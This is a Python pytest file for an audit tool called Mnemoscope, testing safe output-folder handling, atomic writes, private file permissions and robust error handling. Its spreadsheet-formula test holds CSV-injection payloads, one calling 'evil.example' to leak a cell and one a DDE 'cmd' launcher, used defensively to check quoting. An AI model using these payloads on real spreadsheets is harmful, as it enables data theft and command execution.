"""The output edge (issue 19, defects 1, 4, 7, 8, 9) through the real CLI: an output folder
that would overwrite an input, a file Mnemoscope did not write or another audit's results,
a folder that cannot take the files; the output set written atomically; ids that a
spreadsheet would evaluate; private checkpoint and error log; an internal-error handler
that cannot fail.

Every case builds its own files, plants a record value (ZZSECRET123) that must never reach
stdout or stderr, and checks that no input file changed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest

import audit_core.output_folder as output_folder
import audit_core.runner as runner
from audit_core.cli import main
from audit_core.errors import MnemoscopeError
from audit_core.output_folder import RECORD_KEY
from audit_core.outputs import json_bytes, records_csv, spreadsheet_text, write_outputs
from tests.conftest import DEMO, write_plan

SECRET = "ZZSECRET123"
FEW = "[probes.loss]\n[probes.zlib]\n"
OUTPUTS = ("report.pdf", "records.csv", "results.json", "run.json")


class Setup:
    """Cohorts (30 + 30 demo records, one id and one extra cell holding SECRET), a plan."""

    def __init__(self, folder: Path, *, ids: dict[int, str] | None = None, seed: int = 7) -> None:
        self.folder = folder
        folder.mkdir(parents=True, exist_ok=True)
        members = pd.read_csv(DEMO / "members.csv", dtype=str).head(30)
        non_members = pd.read_csv(DEMO / "non_members.csv", dtype=str).head(30)
        members.loc[0, "patient_id"] = SECRET
        members["note"] = f"{SECRET} Jane Q Secretperson"
        for row, value in (ids or {}).items():
            members.loc[row, "patient_id"] = value
        self.members, self.non_members = folder / "members.csv", folder / "non_members.csv"
        self.model = DEMO / "model"
        self.members_frame, self.non_members_frame = members, non_members
        self.seed = seed

    def plan(self, **paths: Path) -> Path:
        members = paths.get("members", self.members)
        non_members = paths.get("non_members", self.non_members)
        if not members.exists():
            members.parent.mkdir(parents=True, exist_ok=True)
            self.members_frame.to_csv(members, index=False)
        if not non_members.exists():
            self.non_members_frame.to_csv(non_members, index=False)
        plan = write_plan(self.folder, model=paths.get("model", self.model), members=members,
                          non_members=non_members, probes=FEW)
        plan.write_text(plan.read_text().replace("seed = 7", f"seed = {self.seed}"))
        return plan


def sha256s(*roots: Path) -> dict[str, str]:
    """Every file under `roots`, by path: the inputs' state before and after a run."""
    files = [p for root in roots for p in ([root] if root.is_file() else sorted(root.rglob("*")))
             if p.is_file()]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


def run_cli(capsys, plan: Path, out: Path, *more: str) -> tuple[int, str, str]:
    code = main(["run", str(plan), "--out", str(out), "--quiet", *more])
    captured = capsys.readouterr()
    assert SECRET not in captured.out + captured.err
    return code, captured.out, captured.err


def assert_refused(code: int, err: str, *expected: str) -> None:
    assert code == 2, err
    assert "Traceback" not in err and err.startswith("mnemoscope: error: "), err
    assert len(err.strip().splitlines()) == 1, err
    for text in expected:
        assert text in err, err


@pytest.fixture()
def no_model_work(monkeypatch):
    """A refusal that must come before the run: any model work fails the test."""
    def forbidden(*args, **kwargs):
        raise AssertionError("the audit ran although the output folder was refused")

    monkeypatch.setattr(runner, "run_audit", forbidden)


# --- 1. Inputs and files Mnemoscope did not write are never overwritten -----------------

def test_a_members_file_named_records_csv_in_the_output_folder_is_refused(tmp_path, capsys, no_model_work):
    setup = Setup(tmp_path)
    out = tmp_path / "out"
    plan = setup.plan(members=out / "records.csv")
    before = sha256s(tmp_path)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, "members file", str(out / "records.csv"))
    assert sha256s(tmp_path) == before
    assert sorted(p.name for p in out.iterdir()) == ["records.csv"]


def test_a_json_plan_named_results_json_in_the_output_folder_is_refused(tmp_path, capsys, no_model_work):
    setup = Setup(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    import tomllib

    plan = out / "results.json"
    plan.write_text(json.dumps(tomllib.loads(setup.plan().read_text())))
    before = sha256s(tmp_path)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, "the plan file", "results.json")
    assert sha256s(tmp_path) == before


def test_a_file_of_the_model_folder_is_never_overwritten(tmp_path, capsys, no_model_work):
    """A training run's results.json in the model folder, and the model folder as --out."""
    setup = Setup(tmp_path)
    model = tmp_path / "model"
    shutil.copytree(DEMO / "model", model)
    (model / "results.json").write_text('{"eval_loss": 1.23, "note": "' + SECRET + '"}\n')
    plan = setup.plan(model=model)
    before = sha256s(tmp_path)
    code, _, err = run_cli(capsys, plan, model)
    assert_refused(code, err, "model folder", "results.json")
    assert sha256s(tmp_path) == before


def test_a_canary_manifest_and_its_seed_file_are_inputs(tmp_path, capsys, no_model_work):
    setup = Setup(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "run.json").write_text(json.dumps({"format": "mnemoscope.canaries/1",
                                              "seed_file": "seed.hex"}))
    plan = setup.plan()
    plan.write_text(plan.read_text() + f'\n[probes.canary_exposure]\nmanifest = "{out / "run.json"}"\n')
    before = sha256s(tmp_path)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, "probes.canary_exposure.manifest", "run.json")
    assert sha256s(tmp_path) == before


@pytest.mark.parametrize("name", OUTPUTS)
def test_a_file_mnemoscope_did_not_write_is_never_overwritten(name, tmp_path, capsys, no_model_work):
    setup = Setup(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / name).write_bytes(f"someone else's {name}: {SECRET}\n".encode())
    plan = setup.plan()
    before = sha256s(tmp_path)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, str(out / name), "not written by Mnemoscope")
    assert sha256s(tmp_path) == before
    assert sorted(p.name for p in out.iterdir()) == [name]


@pytest.fixture(scope="module")
def finished(tmp_path_factory) -> tuple[Setup, Path, Path]:
    """One finished CLI run of a small plan: (setup, plan, its output folder)."""
    folder = tmp_path_factory.mktemp("finished")
    setup = Setup(folder)
    plan = setup.plan()
    out = folder / "out"
    assert main(["run", str(plan), "--out", str(out), "--quiet"]) == 0
    return setup, plan, out


def test_a_rerun_of_the_same_audit_replaces_its_own_files(finished, tmp_path, capsys):
    setup, plan, first = finished
    out = tmp_path / "out"
    shutil.copytree(first, out)
    inputs = sha256s(setup.members, setup.non_members, plan)
    code, stdout, err = run_cli(capsys, plan, out)
    assert code == 0, err
    assert (out / "results.json").read_bytes() == (first / "results.json").read_bytes()
    recorded = json.loads((out / "run.json").read_text())[RECORD_KEY]
    assert recorded == {name: hashlib.sha256((out / name).read_bytes()).hexdigest()
                        for name in ("report.pdf", "records.csv", "results.json")}
    assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUTS)
    assert sha256s(setup.members, setup.non_members, plan) == inputs


def test_another_audit_s_results_are_kept(finished, tmp_path, capsys):
    setup, plan, first = finished
    out = tmp_path / "out"
    shutil.copytree(first, out)
    other = Setup(tmp_path / "other", seed=8)  # another seed: another audit id
    other_plan = other.plan()
    before = sha256s(out, other.members, other.non_members, other_plan)
    code, _, err = run_cli(capsys, other_plan, out)
    audit_id = json.loads((first / "run.json").read_text())["audit_id"]
    assert_refused(code, err, f"holds the results of another audit ({audit_id})",
                   "choose another output folder")
    assert sha256s(out, other.members, other.non_members, other_plan) == before


def test_restart_in_another_audit_s_folder_keeps_its_checkpoint(finished, tmp_path, capsys):
    """--restart discards a checkpoint only once the run knows the folder is its own."""
    from audit_core.checkpoints import CheckpointRequest, Fingerprint

    setup, plan, first = finished
    out = tmp_path / "out"
    saved = CheckpointRequest(out).open(Fingerprint({"plan": "the earlier audit's"}))
    saved.save("unit", b"hours of work")
    saved.close()
    for name in OUTPUTS:
        shutil.copy(first / name, out / name)
    other = Setup(tmp_path / "other", seed=8)
    other_plan = other.plan()
    before = sha256s(out)
    code, _, err = run_cli(capsys, other_plan, out, "--restart")
    assert_refused(code, err, "holds the results of another audit")
    assert sha256s(out) == before and (out / "checkpoint.sqlite").is_file()


@pytest.mark.parametrize("change", ["edited", "deleted run.json"])
def test_a_changed_output_is_never_overwritten(change, finished, tmp_path, capsys, no_model_work):
    """An edited records.csv (or a signed report: its bytes change the same way) no longer
    matches what the run recorded; without run.json nothing is known to be Mnemoscope's."""
    setup, plan, first = finished
    out = tmp_path / "out"
    shutil.copytree(first, out)
    if change == "edited":
        with open(out / "records.csv", "a") as handle:
            handle.write(f"note,{SECRET}\n")
    else:
        (out / "run.json").unlink()
    before = sha256s(out)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, "not written by Mnemoscope", "records.csv" if change == "edited" else "report.pdf")
    assert sha256s(out) == before


def test_the_desktop_app_follows_the_same_rule(tmp_path):
    pytest.importorskip("PySide6")
    from audit_core.plan import load_plan
    from audit_core.progress import CancelToken
    from desktop.audit_controller import _audit_work
    from desktop.error_dialog import explain

    setup = Setup(tmp_path)
    plan = load_plan(setup.plan())
    out = tmp_path / "out"
    out.mkdir()
    (out / "plan.toml").write_text(f"# my own notes: {SECRET}\n")
    before = sha256s(tmp_path)
    work = _audit_work(plan, out, threading.Event())
    with pytest.raises(MnemoscopeError) as refused:
        work(lambda fraction, message: None, CancelToken())
    problem, advice = explain(refused.value)
    assert str(out / "plan.toml") in problem and "not written by Mnemoscope" in problem
    assert "another output folder" in advice
    assert SECRET not in problem + advice
    assert sha256s(tmp_path) == before


def test_the_desktop_app_replaces_its_own_plan_toml(tmp_path):
    pytest.importorskip("PySide6")
    from audit_core.plan import load_plan
    from audit_core.progress import CancelToken
    from desktop.audit_controller import _audit_work

    setup = Setup(tmp_path)
    plan = load_plan(setup.plan())
    out = tmp_path / "out"
    for _ in range(2):  # the second run replaces the first one's files, plan.toml included
        finished = _audit_work(plan, out, threading.Event())(lambda f, m: None, CancelToken())
    recorded = json.loads((out / "run.json").read_text())[RECORD_KEY]
    assert set(recorded) == {"report.pdf", "records.csv", "results.json", "plan.toml"}
    assert recorded["plan.toml"] == hashlib.sha256(finished.files["plan"].read_bytes()).hexdigest()
    # A CLI run of the same audit then leaves the desktop's plan.toml, still recorded as its own.
    assert main(["run", str(setup.folder / "plan.toml"), "--out", str(out), "--quiet"]) == 0
    assert "plan.toml" in json.loads((out / "run.json").read_text())[RECORD_KEY]


# --- 4. The outputs are written as a set, results.json last ------------------------------

class Crash(BaseException):
    """Stands for kill -9: nothing after it runs (not even `except Exception`)."""


@pytest.fixture(scope="module")
def two_results(tmp_path_factory):
    """Two results of one audit that differ in every file: cancelled after the first probe,
    and finished."""
    from audit_core.plan import load_plan
    from audit_core.progress import CancelToken

    setup = Setup(tmp_path_factory.mktemp("two"))
    plan = load_plan(setup.plan())
    token = CancelToken()

    def progress(fraction: float, message: str) -> None:
        if message.startswith("zlib"):
            token.cancel()

    cancelled = runner.run_audit(plan, on_progress=progress, cancel=token)
    assert cancelled.cancelled
    return cancelled, runner.run_audit(plan)


def _consistent(out: Path) -> None:
    """What a reader may rely on: a results.json stands beside the report and records
    of its own run, each exactly as that run recorded them."""
    if not (out / "results.json").exists():
        return
    recorded = json.loads((out / "run.json").read_text())[RECORD_KEY]
    for name in ("report.pdf", "records.csv", "results.json"):
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == recorded[name], name


@pytest.mark.parametrize("start", ["empty folder", "earlier run"])
def test_a_crash_at_any_step_leaves_a_consistent_set(start, two_results, tmp_path, monkeypatch):
    earlier, later = two_results
    real_replace, real_unlink = os.replace, os.unlink
    step = 0
    while True:
        out = tmp_path / f"crash-{step}"
        if start == "earlier run":
            write_outputs(earlier, out)
        calls = 0

        def counted(real):
            def call(*args, **kwargs):
                nonlocal calls
                calls += 1
                if calls > step:
                    raise Crash()
                return real(*args, **kwargs)
            return call

        monkeypatch.setattr(os, "replace", counted(real_replace))
        monkeypatch.setattr(os, "unlink", counted(real_unlink))
        try:
            write_outputs(later, out)
            crashed = False
        except Crash:
            crashed = True
        finally:
            monkeypatch.setattr(os, "replace", real_replace)
            monkeypatch.setattr(os, "unlink", real_unlink)
        _consistent(out)
        if start == "earlier run" and (out / "results.json").exists():
            assert (out / "results.json").read_bytes() in (json_bytes(earlier.as_dict()),
                                                            json_bytes(later.as_dict()))
        # The rerun after the crash recognises every file as its own and completes the set.
        write_outputs(later, out)
        _consistent(out)
        assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUTS)
        if not crashed:
            break
        step += 1
    assert step >= 8  # every rename and removal of the set was a crash point


# --- 7. Ids a spreadsheet would evaluate -------------------------------------------------

FORMULAS = {1: '=HYPERLINK("http://evil.example/?"&A1,"open")', 2: "+cmd|' /C calc'!A0",
            3: "@SUM(1+1)", 4: "-2+3", 5: "\t=1+1", 6: "\r=2+2", 7: "P-plain-id"}


def test_formula_ids_are_written_as_text_in_records_csv(tmp_path, capsys):
    from audit_core.data.cohort import Role
    from audit_core.data.loading import load_cohort
    from audit_core.plan import load_plan

    setup = Setup(tmp_path, ids=FORMULAS)
    plan = setup.plan()
    before = sha256s(setup.members, setup.non_members, plan)
    out = tmp_path / "out"
    code, _, err = run_cli(capsys, plan, out)
    assert code == 0, err
    loaded = load_plan(plan)
    ids = list(load_cohort(loaded.data.members, Role.MEMBERS, loaded.data.columns).ids)
    with open(out / "records.csv", newline="", encoding="utf-8") as handle:
        written = [row["id"] for row in csv.DictReader(handle) if row["role"] == "members"]
    assert sorted(written) == sorted(spreadsheet_text(i) for i in ids)
    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'@SUM(1+1)" in written and "'-2+3" in written and "P-plain-id" in written
    assert sha256s(setup.members, setup.non_members, plan) == before


def test_the_quote_keeps_the_id_itself_and_a_leading_tab():
    for value in FORMULAS.values():
        cell = spreadsheet_text(value)
        assert cell == value or cell == "'" + value
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert spreadsheet_text("\t=1+1") == "'\t=1+1"  # the tab stays: the id is not changed
    row = next(csv.reader(io.StringIO(_csv_line(spreadsheet_text("\t=1+1")))))
    assert row == ["'\t=1+1"]


def _csv_line(cell: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    return buffer.getvalue()


def test_results_json_keeps_the_exact_id(two_results):
    """records_csv quotes; the result (and so results.json's extracted ids) is untouched."""
    _, result = two_results
    ids = list(result.records.ids)
    text = records_csv(result)
    assert list(result.records.ids) == ids
    assert text.count("\n") == len(ids) + 1


# --- 8. The checkpoint and the error log are private (0600) ------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_checkpoint_and_its_wal_and_shm_are_0600(tmp_path):
    from audit_core.checkpoints import CheckpointRequest, Fingerprint

    previous = os.umask(0)  # the most permissive umask: the modes may not rely on it
    try:
        saved = CheckpointRequest(tmp_path / "out").open(Fingerprint({"plan": "x"}))
        saved.save("unit", b"per-record scores")
        names = ("checkpoint.sqlite", "checkpoint.sqlite-wal", "checkpoint.sqlite-shm")
        assert {name: _mode(tmp_path / "out" / name) for name in names} == dict.fromkeys(names, 0o600)
        saved.close()
    finally:
        os.umask(previous)


def test_an_older_0644_checkpoint_is_narrowed_when_resumed(tmp_path):
    from audit_core.checkpoints import CheckpointRequest, Fingerprint

    fingerprint = Fingerprint({"plan": "x"})
    saved = CheckpointRequest(tmp_path).open(fingerprint)
    saved.save("unit", b"scores")
    saved.close()
    os.chmod(tmp_path / "checkpoint.sqlite", 0o644)
    CheckpointRequest(tmp_path, resume=True).open(fingerprint).close()
    assert _mode(tmp_path / "checkpoint.sqlite") == 0o600


def test_the_error_log_is_0600_and_the_message_one_line(tmp_path, capsys, monkeypatch):
    setup = Setup(tmp_path)
    plan = setup.plan()

    def bug(*args, **kwargs):
        raise RuntimeError(f"a bug that quotes a record: {SECRET}")

    monkeypatch.setattr(runner, "run_audit", bug)
    previous = os.umask(0)
    try:
        code, _, err = run_cli(capsys, plan, tmp_path / "out")
    finally:
        os.umask(previous)
    log = tmp_path / "out" / "mnemoscope-error.log"
    assert code == 3 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert str(log) in err
    assert _mode(log) == 0o600 and SECRET in log.read_text()  # the details, for the owner only


# --- 9. The output folder is checked before the run; the last-resort handler cannot fail --

def _existing_file(tmp_path: Path) -> Path:
    (tmp_path / "taken").write_text("a file\n")
    return tmp_path / "taken"


def _under_dev_null(tmp_path: Path) -> Path:
    return Path("/dev/null/x")


def _read_only(tmp_path: Path, monkeypatch) -> Path:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    real = output_folder.tempfile.mkstemp

    def refused(*args, **kwargs):  # root writes into a 0555 folder: refuse as the OS would
        if Path(kwargs.get("dir", "")) == folder:
            raise PermissionError(13, "Permission denied")
        return real(*args, **kwargs)

    if os.geteuid() == 0:
        monkeypatch.setattr(output_folder.tempfile, "mkstemp", refused)
    return folder


def _disk_full(tmp_path: Path, monkeypatch) -> Path:
    real = shutil.disk_usage
    monkeypatch.setattr(shutil, "disk_usage",
                        lambda path: real(path)._replace(free=3 * 2**20))
    return tmp_path / "new" / "out"


FOLDERS = {
    "an existing regular file": (lambda t, m: _existing_file(t), "is a file, not a folder"),
    "a path below /dev/null": (lambda t, m: _under_dev_null(t), "cannot be created: /dev/null is not a folder"),
    "a read-only folder": (_read_only, "cannot write into the output folder"),
    "a disk without room": (_disk_full, "has 3 MB free; this audit's files need at least"),
}


@pytest.mark.parametrize("name", list(FOLDERS))
def test_an_unusable_output_folder_is_refused_before_the_run(name, tmp_path, capsys, monkeypatch,
                                                             no_model_work):
    make, expected = FOLDERS[name]
    setup = Setup(tmp_path)
    plan = setup.plan()
    out = make(tmp_path, monkeypatch)
    before = sha256s(tmp_path)
    try:
        code, _, err = run_cli(capsys, plan, out)
    finally:
        if name == "a read-only folder":
            out.chmod(0o755)
    assert_refused(code, err, str(out), expected)
    assert sha256s(tmp_path) == before
    assert not (tmp_path / "new").exists()  # a refused run leaves nothing behind


def test_the_room_needed_grows_with_the_cohorts(tmp_path):
    from audit_core.plan import load_plan

    small = load_plan(Setup(tmp_path / "small").plan())
    demo = load_plan(DEMO / "plan.toml")
    assert output_folder.output_room_needed(demo) > output_folder.output_room_needed(small) > 16 * 2**20
    # The demo's files, checkpoint included, took 3.1 MB beside its 0.76 MB cohorts: the
    # estimate (a floor) stays above that and far below any ordinary disk.
    assert 4e6 < output_folder.output_room_needed(demo) < 64e6


def test_a_full_disk_during_the_run_is_exit_2(tmp_path, capsys, monkeypatch):
    """The checkpoint cannot save a unit (SQLite: disk full): bad luck, not a bug."""
    import sqlite3

    import audit_core.checkpoints as checkpoints

    def full():
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(checkpoints, "_now", full)
    setup = Setup(tmp_path)
    plan = setup.plan()
    before = sha256s(setup.members, setup.non_members, plan)
    code, _, err = run_cli(capsys, plan, tmp_path / "out")
    assert_refused(code, err, "cannot save finished work", "database or disk is full", "--resume")
    assert sha256s(setup.members, setup.non_members, plan) == before


def test_the_internal_error_handler_survives_an_unwritable_log(tmp_path, capsys, monkeypatch):
    """The folder turns into a file once the run started: the log cannot be written."""
    setup = Setup(tmp_path)
    plan = setup.plan()
    out = tmp_path / "out"

    def bug(*args, **kwargs):
        shutil.rmtree(out, ignore_errors=True)
        out.write_text("not a folder any more\n")
        raise RuntimeError(f"a bug that quotes a record: {SECRET}")

    monkeypatch.setattr(runner, "run_audit", bug)
    before = sha256s(setup.members, setup.non_members, plan)
    code, stdout, err = run_cli(capsys, plan, out)
    assert code == 3, err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "internal error (RuntimeError)" in err and "could not be written" in err
    assert sha256s(setup.members, setup.non_members, plan) == before


def test_the_internal_error_handler_survives_a_closed_stderr(tmp_path, monkeypatch):
    from audit_core.cli import _internal_error

    class Closed(io.StringIO):
        def write(self, text):
            raise OSError(5, "Input/output error")

    monkeypatch.setattr(sys, "stderr", Closed())
    assert _internal_error(RuntimeError("bug"), Path("/dev/null/x")) == 3


def test_files_of_an_earlier_version_are_kept_with_their_own_message(finished, tmp_path, capsys,
                                                                   no_model_work):
    """Before run.json recorded its files (outputs_sha256), nothing says they are unchanged."""
    setup, plan, first = finished
    out = tmp_path / "out"
    shutil.copytree(first, out)
    run = json.loads((out / "run.json").read_text())
    del run[RECORD_KEY]
    (out / "run.json").write_text(json.dumps(run))
    before = sha256s(out)
    code, _, err = run_cli(capsys, plan, out)
    assert_refused(code, err, "earlier Mnemoscope version", str(out / "report.pdf"))
    assert sha256s(out) == before
